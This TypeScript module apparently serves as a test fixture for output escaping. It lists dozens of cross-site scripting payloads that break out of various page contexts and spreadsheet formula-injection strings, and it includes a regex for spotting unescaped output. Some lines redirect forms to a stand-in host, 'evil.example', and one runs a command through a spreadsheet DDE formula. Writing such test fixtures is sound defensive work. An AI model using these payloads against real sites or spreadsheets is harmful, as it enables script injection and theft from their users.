/** What somebody might type to have a program of their own run in somebody else's browser or spreadsheet. */

/** The name under which every payload calls out; whoever opens a page gives it to the page to hear of it. */
export const alarm = "cotMocAlarm";

const call = `${alarm}(1)`;

/** Each breaks out of another place in a page: text, attribute, script, style, address, template, svg. */
const scriptPayloads: readonly string[] = [
  `<script>${call}</script>`,
  `</script><script>${call}</script>`,
  `"><img src=x onerror=${call}>`,
  `'><svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `</textarea><img src=x onerror=${call}>`,
  `</title><svg/onload=${call}>`,
  `</option></select><img src=x onerror=${call}>`,
  `<details open ontoggle=${call}>`,
  `" autofocus onfocus=${call} x="`,
  `' onmouseover='${call}`,
  `javascript:${call}`,
  `<a href="javascript:${call}">x</a>`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<math><mtext><table><mglyph><style><img src onerror=${call}>`,
  `<template><img src=x onerror=${call}></template>`,
  `<style>@import 'javascript:${call}';*{background:url("javascript:${call}")}</style>`,
  `</style><img src=x onerror=${call}>`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `\\u003cimg src=x onerror=${call}\\u003e`,
  `\\";${call};//`,
  `';${call};//`,
  `--><img src=x onerror=${call}><!--`,
  `]]><img src=x onerror=${call}>`,
  `<img src=x onerror=${call}//`,
  `\u202e<img src=x onerror=${call}>\u202c`,
  `<\u200bscript>${call}</script>`,
  `＜script＞${call}＜/script＞`,
  `&lt;img src=x onerror=${call}&gt;`,
  `\u2028${call}\u2029`,
  `<object data="data:text/html,<script>${call}</script>">`,
  `<base href="//evil.example/"><form action=//evil.example><button>x`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
];

/** What a spreadsheet would take for a formula. */
const formulaPayloads: readonly string[] = [
  `=HYPERLINK("http://evil.example","x")`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3`,
  `@SUM(1+1)`,
  `=1+1`,
  `\t=1+1`,
];

export const payloads: readonly string[] = [...scriptPayloads, ...formulaPayloads];

/** Ways in which a payload would stand in a page unescaped. */
export const unescaped = new RegExp(
  `<(script|img|svg|details|iframe|template|style|object|math)[^>]*>?[^<]{0,40}${alarm}\\(1\\)`,
  "i",
);
